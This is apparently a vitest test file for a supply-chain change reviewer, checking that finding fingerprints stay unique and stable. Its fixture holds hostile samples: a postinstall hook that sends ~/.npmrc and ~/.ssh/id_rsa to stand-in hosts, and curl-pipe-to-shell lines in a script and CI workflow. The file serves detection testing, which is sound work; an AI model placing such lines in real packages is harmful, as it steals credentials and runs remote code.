import { describe, expect, it } from "vitest";
import type { MemoryTree } from "../fakes/memory-commits.ts";
import { reviewChange } from "./setting.ts";

const SEND = (file: string, host: string) =>
  `fetch("https://${host}/in", { method: "POST", body: require("fs").readFileSync(process.env.HOME + "/${file}", "utf8") });\n`;

const ATTACK: MemoryTree = {
  "package.json": '{"scripts":{"postinstall":"node lib/a.js"}}',
  "lib/a.js":
    SEND(".npmrc", "collector.example.invalid") +
    SEND(".npmrc", "collector.example.invalid") +
    SEND(".npmrc", "other.example.invalid") +
    SEND(".ssh/id_rsa", "collector.example.invalid"),
  "lib/b.sh": "curl -s http://198.51.100.7/a | sh\ncurl -s http://198.51.100.7/a | sh\n",
  ".github/workflows/ci.yml":
    "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -s http://198.51.100.7/a | sh\n      - run: curl -s http://198.51.100.7/a | sh\n",
};

async function fingerprints(base: MemoryTree, head: MemoryTree): Promise<string[]> {
  const { findings } = await reviewChange(base, head);
  return findings.map(({ fingerprint }) => fingerprint);
}

describe("the fingerprint of a finding", () => {
  it("is no other finding's, also where the same stands twice", async () => {
    const found = await fingerprints({}, ATTACK);
    expect(found.length).toBeGreaterThan(5);
    expect(new Set(found).size).toBe(found.length);
  });

  it("is the same when the change is reviewed again", async () => {
    expect(await fingerprints({}, ATTACK)).toEqual(await fingerprints({}, ATTACK));
  });

  it("is the same when lines move, and when other files come and are renamed", async () => {
    const script = ATTACK["lib/a.js"];
    const moved = {
      ...ATTACK,
      "lib/a.js": `// One line more.\n\n\n${typeof script === "string" ? script : ""}`,
      "docs/new-name.md": "Some text that was elsewhere before.\n",
      "lib/unrelated.js": "export const answer = 42;\n",
    };
    // Who is known to a repository depends on whether there is one.
    const readme = { "README.md": "A library.\n" };
    const before = await fingerprints(readme, { ...readme, ...ATTACK });
    const after = await fingerprints(
      { ...readme, "docs/old-name.md": "Some text that was elsewhere before.\n" },
      { ...readme, ...moved },
    );
    expect(new Set(after)).toEqual(new Set(before));
  });

  it("is another's when the destination is another", async () => {
    const one = {
      "package.json": ATTACK["package.json"] ?? "",
      "lib/a.js": SEND(".npmrc", "a.example.invalid"),
    };
    const two = { ...one, "lib/a.js": SEND(".npmrc", "b.example.invalid") };
    const [before, after] = [await fingerprints({}, one), await fingerprints({}, two)];
    expect(before.length).toBeGreaterThan(0);
    expect(after).not.toEqual(before);
  });
});
